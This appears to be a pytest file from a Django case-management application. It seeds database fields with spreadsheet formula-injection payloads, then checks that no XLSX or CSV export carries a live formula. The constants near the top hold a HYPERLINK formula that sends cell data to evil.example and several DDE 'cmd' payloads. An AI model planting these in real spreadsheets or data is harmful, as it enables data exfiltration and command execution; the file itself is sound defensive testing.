"""Formula injection (issue 9, item 2): hostile text planted in every text field that reaches an
export — decision and judgment numbers, parties, payers, held-money sources, officers' and
units' names — then every XLSX and CSV the screens link to is read back: no formula anywhere,
no CSV field that a spreadsheet would evaluate.

The exports are found by the link crawler (`thads.testing.crawler`), so an export added later
is checked as soon as a page links to it.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.db import connection, transaction
from django.db.models import CharField, Value
from django.db.models.functions import Cast, Concat
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from thads.cases.models import Case, Judgment, Party
from thads.common.spreadsheets import is_dangerous
from thads.org.models import Staff, Unit
from thads.targets import bottlenecks
from thads.testing.crawler import Crawler
from thads.testing.org import build_all
from thads.web.tests.access_matrix import ROLES

pytestmark = [
    pytest.mark.django_db,
    # The writers do not depend on the database: the crawl runs once in CI (on SQLite).
    pytest.mark.skipif(connection.vendor == "postgresql", reason="database-independent"),
]

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")'
CMD = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
PLANTED = [LINK, CMD, PLUS, AT, MINUS]


def _plant(today: dt.date) -> None:
    from thads.ledger import services

    # KV2's cases with those of Chi cục Sông Công, which it replaced on 01/07/2025: how many of
    # the small demo's cases each holds depends on today's date.
    kv2 = Case.objects.filter(unit__code__in=("TNG-KV2", "TN-SC"))
    # Each its own number (one QĐ THA number per unit and year), every one a live formula.
    Case.objects.filter(pk__in=kv2.values("pk")).update(
        decision_no=Concat(Value(LINK + " "), Cast("pk", CharField()))
    )
    Judgment.objects.filter(cases__in=kv2).update(number=MINUS)
    Party.objects.filter(case__in=kv2).update(name=CMD)
    Staff.objects.filter(code="TN-SC-02").update(full_name=AT)
    Unit.objects.filter(code="TNG-KV2").update(name=PLUS + " khu vực 2")
    case = (
        kv2.filter(state="dang_thi_hanh", officer__code="TN-SC-02").order_by("code").first()
        or kv2.order_by("code").first()
    )
    if case.remainder > 2_000_000:
        services.payment_record(case, amount=1_000_000, received_on=today, payer=CMD)
    for kind in ("tam_giu", "tam_thu"):
        services.held_money_receive(
            Unit.objects.get(code="TNG-KV2"),
            kind=kind,
            amount=500_000,
            received_on=today - dt.timedelta(days=40),
            source=LINK,
            case=case if case.unit.code == "TNG-KV2" else None,  # held by the unit of the case
            description=AT,
        )


@pytest.fixture(scope="module")
def planted(django_db_setup, django_db_blocker):
    from thads.interchange import demo_cases

    with django_db_blocker.unblock(), transaction.atomic():
        today = timezone.localdate()
        build_all()
        demo_cases.load(today, count=80)
        _plant(today)
        yield
        transaction.set_rollback(True)


def _xlsx_problems(url: str, content: bytes) -> tuple[list[str], int]:
    problems, seen = [], 0
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                if "<f>" in xml or "<f " in xml:
                    problems.append(f"{url}: a formula in {name}")
    for ws in load_workbook(io.BytesIO(content)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{url}: formula cell {ws.title}!{cell.coordinate}")
                if isinstance(cell.value, str) and any(p in cell.value for p in PLANTED):
                    seen += 1
    return problems, seen


def _csv_problems(url: str, content: bytes) -> tuple[list[str], int]:
    problems, seen = [], 0
    text = content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline="")):
        for field in row:
            if is_dangerous(field):
                problems.append(f"{url}: CSV field {field!r}")
            if any(p in field for p in PLANTED):
                seen += 1
    return problems, seen


def test_no_export_carries_a_live_formula(client, planted):
    # The provincial leader sees every list, form and drill-down of the province.
    client.force_login(get_user_model().objects.get(username=ROLES["provincial_leader"].username))
    files: dict[str, tuple[str, bytes]] = {}

    def collect(url: str, response) -> None:
        kind = response.get("Content-Type", "")
        if "spreadsheetml" in kind or kind.startswith("text/csv"):
            files[url] = (kind, b"".join(response) if response.streaming else response.content)

    # Every bottleneck list's export directly (the held-money list among them), then the crawl.
    lists = [
        f"{reverse('bottlenecks:list', args=[b.key])}?don_vi=TNG-KV2&xuat=xlsx"
        for b in bottlenecks.BOTTLENECKS
    ]
    for url in lists:
        response = client.get(url)
        assert response.status_code == 200, url
        collect(url, response)
    crawler = Crawler(client, max_depth=3, per_pattern=2, max_pages=200, on_response=collect)
    crawler.crawl(["/"])
    problems, seen = [], 0
    for url, (kind, content) in files.items():
        found, hits = (
            _xlsx_problems(url, content) if "spreadsheetml" in kind else _csv_problems(url, content)
        )
        problems += found
        seen += hits
    assert problems == [], "\n".join(problems)
    # The crawl really reached the exports: every bottleneck list, the forms, the drill-downs.
    assert len(files) >= len(lists) + 3, sorted(files)
    assert any("/thong-ke/chi-tiet/" in url for url in files), sorted(files)
    assert seen > 0, sorted(files)  # and the planted text really reached them
